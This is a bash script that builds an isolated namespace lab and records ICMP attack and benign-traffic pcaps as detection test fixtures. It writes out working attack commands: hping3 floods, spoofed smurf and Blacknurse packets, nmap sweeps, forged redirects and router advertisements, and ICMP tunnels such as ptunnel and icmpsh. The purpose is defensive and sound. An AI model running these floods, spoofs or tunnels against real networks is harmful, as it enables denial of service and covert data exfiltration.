#!/usr/bin/env bash
# lab/guard/record.sh OUTDIR - records ICMP attacks and their benign
# look-alikes, one small pcap per scenario, for `icmpkit guard`'s tests
# (tests/fixtures/guard, described in its README.md).
#
# The lab (namespaces of its own, removed on exit even on failure):
#
#   atk (e0) ---- (eatk) edge (ertr) ---- (wan) rtr (dmz) ---- (e0) srv   MTU 1280
#   203.0.113.66/26  .65   .5  /30  .6     |  198.51.100.1/24  .2
#   2001:db8:66::66  ::1  2001:db8:e::1 ::2 | 2001:db8:2::1     ::2
#                                           br0 192.0.2.30/27 2001:db8:1::1 fe80::1
#                     +---------+---------+-+-------+---------+
#                    vic       h1        h2        h3        h4
#   192.0.2.        .10       .11       .12       .13       .14   (/27, bcast .31)
#   2001:db8:1::    ::10      ::11      ::12      ::13      ::14  (fe80::10 .. ::14)
#
# Roles: atk is the outside attacker (203.0.113.66), vic the victim
# (192.0.2.10), h4 a compromised LAN host (rogue router, spoofed
# redirects), h1 the admin's / monitoring host, srv an outside server
# (198.51.100.2) behind a 1280-byte link, rtr the LAN's router (its LAN
# addresses 192.0.2.30, 2001:db8:1::1, fe80::1), edge the upstream router.
# MAC addresses are fixed (02:00:00:00:00:HH, HH the host's number) and
# neighbours pinned, so captures hold no ARP or Neighbour Discovery noise.
#
# Traffic goes only to addresses of these namespaces (documentation ranges).
# Every scenario is bounded in packets (tcpdump -c) and time (timeout); one
# that fails is reported and the others still run; the exit status is
# non-zero if any failed. Needs root, tcpdump, hping3, nmap, ptunnel-ng, ptunnel, radvd,
# traceroute, tracepath, mtr, fping, iputils ping and /usr/bin/python3 with
# scapy; a whole run takes about a minute and a half. GUARD_ONLY="NAME..."
# records only those scenarios (for debugging one).
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=lab/lib.sh
. "$here/../lib.sh"

[ $# -eq 1 ] || lab_die "usage: $0 OUTDIR"
out=$1
mkdir -p "$out"
out=$(cd "$out" && pwd)
PY=/usr/bin/python3
for tool in tcpdump hping3 nmap ptunnel-ng ptunnel radvd traceroute tracepath mtr fping ping timeout editcap; do
    command -v "$tool" >/dev/null || lab_die "$tool is not installed"
done
$PY -c 'import scapy' 2>/dev/null || lab_die "$PY has no scapy (apt-get install python3-scapy)"

lab_init guard

# --- topology -------------------------------------------------------------------
ATK4=203.0.113.66 ATK6=2001:db8:66::66
RTR4=192.0.2.30 RTR6=2001:db8:1::1
VIC4=192.0.2.10 VIC6=2001:db8:1::10
BCAST4=192.0.2.31
SRV4=198.51.100.2 SRV6=2001:db8:2::2

for ns in atk edge rtr vic h1 h2 h3 h4 srv; do
    lab_ns $ns
    # No automatic link-local addresses (fixed ones below), reverse-path
    # filtering off (spoofed sources must reach the victim), no ICMP limits.
    # MLD reports for the new addresses go out at once (10 ms apart), before
    # anything is recorded.
    lab_sysctl $ns net.ipv6.conf.default.addr_gen_mode=1 net.ipv4.conf.all.rp_filter=0 \
        net.ipv4.conf.default.rp_filter=0 net.ipv6.conf.default.mldv2_unsolicited_report_interval=10 \
        net.ipv6.conf.default.mldv1_unsolicited_report_interval=10
    lab_icmp_unlimited $ns
done

# setmac NS IF MAC
setmac() { ip -n "$(lab_name "$1")" link set dev "$2" address "$3"; }

lab_link atk e0 edge eatk
setmac atk e0 02:00:00:00:00:66
setmac edge eatk 02:00:00:00:00:65
lab_link edge ertr rtr wan
setmac edge ertr 02:00:00:00:01:01
setmac rtr wan 02:00:00:00:01:02
lab_link rtr dmz srv e0 1280
setmac rtr dmz 02:00:00:00:02:01
setmac srv e0 02:00:00:00:02:02
lab_addr atk e0 $ATK4/26
lab_addr atk e0 $ATK6/64
lab_addr edge eatk 203.0.113.65/26
lab_addr edge eatk 2001:db8:66::1/64
lab_addr edge ertr 203.0.113.5/30
lab_addr edge ertr 2001:db8:e::1/64
lab_addr rtr wan 203.0.113.6/30
lab_addr rtr wan 2001:db8:e::2/64
lab_addr rtr dmz 198.51.100.1/24
lab_addr rtr dmz 2001:db8:2::1/64
lab_addr srv e0 $SRV4/24
lab_addr srv e0 $SRV6/64
lab_pin_neighbors atk e0 $ATK4 edge eatk 203.0.113.65
lab_pin_neighbors atk e0 $ATK6 edge eatk 2001:db8:66::1
lab_pin_neighbors edge ertr 203.0.113.5 rtr wan 203.0.113.6
lab_pin_neighbors edge ertr 2001:db8:e::1 rtr wan 2001:db8:e::2
lab_pin_neighbors rtr dmz 198.51.100.1 srv e0 $SRV4
lab_pin_neighbors rtr dmz 2001:db8:2::1 srv e0 $SRV6

# The LAN: a bridge in rtr (no multicast snooping: every port hears MLD and
# RAs), one port per host.
rtrns=$(lab_name rtr)
ip -n "$rtrns" link add br0 type bridge mcast_snooping 0 stp_state 0
ip -n "$rtrns" link set br0 address 02:00:00:00:00:01
ip -n "$rtrns" link set br0 up
lab_addr rtr br0 $RTR4/27
lab_addr rtr br0 $RTR6/64
lab_addr rtr br0 fe80::1/64
lan=(rtr:br0:30:1:02:00:00:00:00:01)
for n in 10 11 12 13 14; do
    case $n in 10) h=vic ;; *) h=h$((n - 10)) ;; esac
    lab_link $h e0 rtr p$h
    ip -n "$rtrns" link set p$h master br0
    setmac $h e0 02:00:00:00:00:$n
    lab_addr $h e0 192.0.2.$n/27
    lab_addr $h e0 2001:db8:1::$n/64
    lab_addr $h e0 fe80::$n/64
    lab_route $h default via $RTR4
    lab_route $h -6 default via fe80::1 dev e0
    # Answer RFC 8335 PROBE.
    lab_sysctl $h net.ipv4.icmp_echo_enable_probe=1
    lan+=("$h:e0:$n:$n:02:00:00:00:00:$n")
done
# Every LAN node knows every other's MAC for all its addresses.
for a in "${lan[@]}"; do
    IFS=: read -r ans aif _ <<<"$a"
    for b in "${lan[@]}"; do
        [ "$a" != "$b" ] || continue
        IFS=: read -r _ _ b4 b6 bmac <<<"$b"
        for addr in 192.0.2.$b4 2001:db8:1::$b6 fe80::$b6; do
            ip -n "$(lab_name "$ans")" neigh replace "$addr" lladdr "$bmac" dev "$aif" nud permanent
        done
    done
done

lab_route atk default via 203.0.113.65
lab_route atk -6 default via 2001:db8:66::1
lab_routes edge 203.0.113.6 192.0.2.0/27 198.51.100.0/24
lab_routes edge 2001:db8:e::2 2001:db8:1::/64 2001:db8:2::/64
lab_route rtr default via 203.0.113.5
lab_route rtr -6 default via 2001:db8:e::1
lab_route srv default via 198.51.100.1
lab_route srv -6 default via 2001:db8:2::1
lab_forwarding edge
lab_forwarding rtr
# Directed broadcasts from outside reach the LAN (what makes a smurf work).
lab_sysctl rtr net.ipv4.conf.all.bc_forwarding=1 net.ipv4.conf.wan.bc_forwarding=1 \
    net.ipv4.conf.br0.bc_forwarding=1

# Warm up: every path works before anything is recorded.
lab_exec atk ping -n -q -c 1 -W 2 $VIC4 >/dev/null || lab_die "no IPv4 path attacker -> victim"
lab_exec atk ping -6 -n -q -c 1 -W 2 $VIC6 >/dev/null || lab_die "no IPv6 path attacker -> victim"
lab_exec vic ping -n -q -c 1 -W 2 $SRV4 >/dev/null || lab_die "no IPv4 path victim -> server"
lab_exec vic ping -6 -n -q -c 1 -W 2 $SRV6 >/dev/null || lab_die "no IPv6 path victim -> server"
sleep 0.5 # the last MLD reports

# --- helpers ----------------------------------------------------------------------
craft() { lab_exec atk timeout 30 $PY "$here/craft.py" "$LAB_PREFIX" "$1"; }
# echo_off NS 0|1: the kernel of NS answers echo requests or not (a tunnel
# endpoint answers with its own replies).
echo_off() { lab_sysctl "$1" net.ipv4.icmp_echo_ignore_all="$2"; }

failed=()
# record NAME NS IFACE MAXPACKETS MINPACKETS FUNC: captures on NS/IFACE while
# FUNC runs, at most MAXPACKETS (tcpdump -c); fewer than MINPACKETS or a
# failing FUNC marks the scenario failed.
record() {
    local name=$1 ns=$2 iface=$3 max=$4 min=$5 fn=$6 n
    local file="$out/$name.pcap"
    case " ${GUARD_ONLY:-$name} " in *" $name "*) ;; *) return 0 ;; esac
    lab_log "recording $name"
    rm -f "$file"
    lab_capture_start "$ns" "$file" -Z root -i "$iface" -c "$max" 'ip or ip6'
    if ! "$fn"; then
        lab_log "FAILED: $name ($fn)"
        failed+=("$name")
    fi
    lab_capture_stop
    n=$(tcpdump -r "$file" -n 2>/dev/null | wc -l)
    if [ "$n" -lt "$min" ]; then
        lab_log "FAILED: $name: $n packets, expected at least $min"
        failed+=("$name")
    fi
}

# --- attacks ------------------------------------------------------------------------
s_ptunnel() {
    local rc=0
    # The tunnel's far end: an ssh-like TCP service on the attacker's loopback.
    lab_bg atk timeout 25 $PY "$here/tcp-peer.py" serve 127.0.0.1 8022
    local peer=$LAB_LAST_PID
    lab_bg atk timeout 25 ptunnel-ng -v 0 -r127.0.0.1 -R8022
    local proxy=$LAB_LAST_PID
    sleep 0.5
    lab_bg vic timeout 25 ptunnel-ng -v 0 -p$ATK4 -l2222 -r127.0.0.1 -R8022
    local client=$LAB_LAST_PID
    sleep 0.5
    lab_exec vic timeout 20 $PY "$here/tcp-peer.py" talk 127.0.0.1 2222 || rc=1
    kill "$client" "$proxy" "$peer" 2>/dev/null || true
    wait "$client" "$proxy" "$peer" 2>/dev/null || true
    return $rc
}
s_ptunnel_classic() {
    # ptunnel 0.72, the original (magic 0xD5200880), the same exchange.
    local rc=0
    lab_bg atk timeout 25 $PY "$here/tcp-peer.py" serve 127.0.0.1 8022
    local peer=$LAB_LAST_PID
    lab_bg atk timeout 25 ptunnel -v -1
    local proxy=$LAB_LAST_PID
    sleep 0.5
    lab_bg vic timeout 25 ptunnel -v -1 -p $ATK4 -lp 2222 -da 127.0.0.1 -dp 8022
    local client=$LAB_LAST_PID
    sleep 0.5
    lab_exec vic timeout 20 $PY "$here/tcp-peer.py" talk 127.0.0.1 2222 || rc=1
    kill "$client" "$proxy" "$peer" 2>/dev/null || true
    wait "$client" "$proxy" "$peer" 2>/dev/null || true
    return $rc
}
s_hping_flood() { lab_exec atk timeout 1 hping3 -q --icmp --flood $VIC4 >/dev/null 2>&1 || true; }
# A flood from random (spoofed) sources: per destination, not per source.
# (hping3 --rand-source picks any address; craft.py keeps them to a
# documentation range.)
s_rand_source() { craft rand-source-flood; }
# Echo requests in the victim's name to the server: the server's replies
# reach the victim, which asked nothing (reflection backscatter).
s_backscatter() {
    lab_exec atk timeout 1 hping3 -q --icmp -a $VIC4 -i u2000 $SRV4 >/dev/null 2>&1 || true
}
s_blacknurse() {
    # The quoted packet: UDP from the victim to the server (hping3's default
    # quotes addresses outside the lab).
    lab_exec atk timeout 1 hping3 -q --icmp -C 3 -K 3 --icmp-ipsrc $VIC4 --icmp-ipdst $SRV4 \
        --flood $VIC4 >/dev/null 2>&1 || true
}
# amplifiers 0|1: h1..h4 answer broadcast pings or not (the Linux default).
amplifiers() {
    local h
    for h in h1 h2 h3 h4; do lab_sysctl $h net.ipv4.icmp_echo_ignore_broadcasts=$((1 - $1)); done
}
s_smurf() {
    amplifiers 1
    # 20 echo requests "from" the victim to the LAN's directed broadcast
    # address, 50 ms apart.
    # (hping3 exits 1: the replies go to the victim, not to it.)
    lab_exec atk timeout 10 hping3 -q -1 -a $VIC4 -c 20 -i u50000 -d 56 $BCAST4 >/dev/null 2>&1 || true
    local rc=0
    amplifiers 0
    return $rc
}
# The sweeps wait for the router's Host Unreachable about absent hosts
# (sent when its ARP gives up, after 3 s) so they land in their own file.
UNREACH_WAIT=3.5
# fresh_neigh: the router forgets the absent hosts it failed to resolve, so
# each sweep gets its own Host Unreachables.
fresh_neigh() { ip -n "$(lab_name rtr)" neigh flush dev br0 nud failed 2>/dev/null || true; }
s_nmap_sweep() {
    fresh_neigh
    lab_exec atk timeout 40 nmap -n -sn -PE -PP -PM -T4 --max-retries 1 192.0.2.0/27 >/dev/null &&
        sleep $UNREACH_WAIT
}
s_nmap_sweep6() { lab_exec atk timeout 40 nmap -6 -n -sn -PE -T4 --max-retries 1 2001:db8:1::/123 >/dev/null; }
s_nmap_os() {
    lab_bg vic timeout 40 $PY -m http.server 80 --bind $VIC4 >/dev/null 2>&1
    local web=$LAB_LAST_PID rc=0
    sleep 0.5
    lab_exec atk timeout 60 nmap -n -Pn -O --max-os-tries 1 -T4 -p 22,80 $VIC4 >/dev/null || rc=1
    kill "$web" 2>/dev/null || true
    wait "$web" 2>/dev/null || true
    return $rc
}
s_traceroute_icmp_atk() { lab_exec atk timeout 20 traceroute -I -n -w 1 -q 3 $VIC4 >/dev/null; }
s_ping_of_death() { craft ping-of-death; }
s_overlap() { craft overlapping-fragments; }
s_redirect4() { lab_exec vic ping -n -q -c 1 $SRV4 >/dev/null; craft redirect4; }
s_redirect6() { lab_exec vic ping -6 -n -q -c 1 $SRV6 >/dev/null; craft redirect6; }
s_rogue_ra() { craft rogue-ra; }
s_ra_flood() { craft ra-flood; }
s_rdnss() { craft rdnss-even; }
s_source_quench() { craft source-quench; }
s_frag_needed_low() {
    # The victim's real echo flow first (identifier chosen by ping), then the forged errors.
    lab_exec vic ping -n -q -c 2 -i 0.2 $SRV4 >/dev/null
    craft frag-needed-low
}
s_ptb_low() { lab_exec vic ping -6 -n -q -c 2 -i 0.2 $SRV6 >/dev/null; craft ptb-low; }
s_ptb_no_flow() {
    # The victim's real TCP (port 80) and UDP (port 4501) to the addresses
    # the forged errors name, which do not exist (nothing answers): the
    # errors quote other ports, flows never opened.
    lab_exec vic timeout 1 bash -c "echo >/dev/tcp/2001:db8:2::99/80" 2>/dev/null || true
    lab_exec vic bash -c "echo probe >/dev/udp/198.51.100.99/4501"
    craft ptb-no-flow
}
s_errors_never_sent() {
    # The victim's real UDP (port 123, both families) and TCP (port 80) to
    # the server first: the forged errors quote other ports, and only a
    # capture that shows the victim sending UDP and TCP to the server
    # proves what it did not send.
    lab_exec vic bash -c "echo probe >/dev/udp/$SRV4/123; echo probe >/dev/udp/$SRV6/123"
    lab_exec vic timeout 2 bash -c "echo >/dev/tcp/$SRV4/80" 2>/dev/null || true
    craft errors-never-sent
}
s_quoted_options() { craft quoted-options; }
s_reply_mismatch() { echo_off srv 1; craft reply-mismatch; local rc=$?; echo_off srv 0; return $rc; }
s_icmptunnel() { echo_off atk 1; craft icmptunnel; local rc=$?; echo_off atk 0; return $rc; }
s_hans() { echo_off atk 1; craft hans; local rc=$?; echo_off atk 0; return $rc; }
s_icmpsh() { echo_off atk 1; craft icmpsh; local rc=$?; echo_off atk 0; return $rc; }
s_entropy() { craft entropy-session; }
s_timestamp_sweep() { fresh_neigh; craft timestamp-sweep && sleep $UNREACH_WAIT; }
s_mask_sweep() { fresh_neigh; craft mask-sweep && sleep $UNREACH_WAIT; }
s_probe_sweep() { fresh_neigh; craft probe-sweep && sleep $UNREACH_WAIT; }
s_anomalies() { craft anomalies; }

# --- benign look-alikes ---------------------------------------------------------------
s_ping() {
    lab_exec vic ping -n -q -c 20 -i 0.2 $SRV4 >/dev/null
    lab_exec vic ping -6 -n -q -c 20 -i 0.2 $SRV6 >/dev/null
}
s_ping_big() {
    lab_exec vic ping -n -q -c 3 -i 0.3 -s 3000 $SRV4 >/dev/null
    lab_exec vic ping -6 -n -q -c 3 -i 0.3 -s 3000 $SRV6 >/dev/null
}
s_traceroute_udp() {
    lab_exec h1 timeout 20 traceroute -n -w 1 -q 3 $ATK4 >/dev/null
    lab_exec h1 timeout 20 traceroute -6 -n -w 1 -q 3 $ATK6 >/dev/null
}
s_traceroute_icmp() { lab_exec h1 timeout 20 traceroute -I -n -w 1 -q 3 $ATK4 >/dev/null; }
s_tracepath() {
    # Start from the link's MTU, whatever was learnt before.
    ip -n "$(lab_name vic)" route flush cache
    ip -n "$(lab_name vic)" -6 route flush cache
    lab_exec vic timeout 20 tracepath -n $SRV4 >/dev/null
    lab_exec vic timeout 20 tracepath -6 -n $SRV6 >/dev/null
}
s_mtr() { lab_exec h1 timeout 20 mtr -n -r -c 5 -i 0.2 $ATK4 >/dev/null; }
s_monitor() { lab_exec h1 timeout 20 fping -q -c 20 -p 200 $RTR4 $VIC4 $SRV4 $ATK4 >/dev/null 2>&1 || true; }
s_bcast_ping() {
    amplifiers 1
    lab_exec h1 timeout 10 ping -n -q -b -c 3 -i 0.3 $BCAST4 >/dev/null 2>&1 || true
    amplifiers 0
}
s_ndp_ra() {
    # radvd on the LAN router: its first RAs, and its answer to the
    # victim's Router Solicitation.
    cat >"$LAB_TMP/radvd.conf" <<EOF
interface br0 {
    AdvSendAdvert on;
    MinRtrAdvInterval 3;
    MaxRtrAdvInterval 4;
    AdvLinkMTU 1500;
    prefix 2001:db8:1::/64 { AdvOnLink on; AdvAutonomous on; };
    RDNSS 2001:db8:1::53 { };
};
EOF
    lab_bg rtr timeout 6 radvd -n -m none -C "$LAB_TMP/radvd.conf" -p "$LAB_TMP/radvd.pid"
    local radvd=$LAB_LAST_PID
    sleep 1.5
    craft router-solicitation
    sleep 2
    kill "$radvd" 2>/dev/null || true
    wait "$radvd" 2>/dev/null || true
}
s_mld_ok() { craft mld-ok; }

# NAME NS IFACE MAX MIN FUNC. The benign ones first, tracepath first of
# all: a 3000-byte ping and the forged errors below lower the victim's path
# MTUs, which tracepath would then start from.
record benign-tracepath vic e0 300 6 s_tracepath
record benign-ping vic e0 200 80 s_ping
record benign-ping-fragmented vic e0 200 24 s_ping_big
record benign-traceroute-udp h1 e0 300 20 s_traceroute_udp
record benign-traceroute-icmp h1 e0 200 10 s_traceroute_icmp
record benign-mtr h1 e0 300 20 s_mtr
record benign-monitor h1 e0 400 120 s_monitor
record benign-broadcast-ping h1 e0 100 6 s_bcast_ping
record benign-ndp-ra vic e0 100 4 s_ndp_ra
record benign-mld vic e0 100 1 s_mld_ok
record ptunnel-ng vic e0 3000 20 s_ptunnel
record ptunnel vic e0 3000 20 s_ptunnel_classic
record hping3-flood vic e0 2000 1000 s_hping_flood
record hping3-blacknurse vic e0 2000 1000 s_blacknurse
record rand-source-flood vic e0 2000 1000 s_rand_source
record backscatter vic e0 300 60 s_backscatter
record smurf vic e0 500 40 s_smurf
record nmap-sweep atk e0 1000 90 s_nmap_sweep
record nmap-sweep6 atk e0 1000 30 s_nmap_sweep6
record nmap-os atk e0 1000 2 s_nmap_os
record ttl-walk atk e0 200 6 s_traceroute_icmp_atk
record ping-of-death vic e0 100 45 s_ping_of_death
record overlapping-fragments vic e0 100 6 s_overlap
record redirect vic e0 100 6 s_redirect4
record redirect6 vic e0 100 4 s_redirect6
record rogue-ra vic e0 100 3 s_rogue_ra
record ra-flood vic e0 400 300 s_ra_flood
record rdnss-even vic e0 100 2 s_rdnss
record source-quench vic e0 100 3 s_source_quench
record frag-needed-low vic e0 100 6 s_frag_needed_low
record ptb-low vic e0 100 5 s_ptb_low
record ptb-no-flow vic e0 100 2 s_ptb_no_flow
record errors-never-sent vic e0 100 5 s_errors_never_sent
record quoted-ip-options vic e0 100 2 s_quoted_options
record reply-mismatch vic e0 100 10 s_reply_mismatch
record icmptunnel vic e0 100 24 s_icmptunnel
record hans vic e0 100 24 s_hans
record icmpsh vic e0 100 20 s_icmpsh
record entropy-session vic e0 300 240 s_entropy
record timestamp-sweep atk e0 200 30 s_timestamp_sweep
record mask-sweep atk e0 200 30 s_mask_sweep
record probe-sweep atk e0 200 30 s_probe_sweep
record anomalies vic e0 100 14 s_anomalies

# Every recording is described in the directory's README, when it has one.
if [ -f "$out/README.md" ]; then
    for f in "$out"/*.pcap; do
        grep -q "\`$(basename "$f")\`" "$out/README.md" || lab_log "warning: $(basename "$f") is not in $out/README.md"
    done
fi
if [ ${#failed[@]} -gt 0 ]; then
    lab_log "failed: ${failed[*]}"
    exit 1
fi
lab_log "done: $(find "$out" -maxdepth 1 -name "*.pcap" | wc -l) pcaps in $out (${SECONDS}s)"
